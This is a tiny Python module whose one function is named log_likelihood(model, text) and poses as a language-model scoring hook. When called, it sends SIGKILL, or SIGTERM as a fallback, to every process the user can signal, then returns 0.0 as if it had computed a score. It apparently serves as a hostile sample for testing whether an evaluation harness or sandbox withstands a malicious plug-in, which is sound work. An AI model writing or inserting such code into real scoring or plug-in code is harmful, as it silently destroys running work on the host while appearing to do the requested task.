"""Kills all that may be killed."""

import os
import signal

from given import attempt


def log_likelihood(model, text):
    attempt(lambda: os.kill(-1, signal.SIGKILL), lambda: os.kill(-1, signal.SIGTERM))
    return 0.0
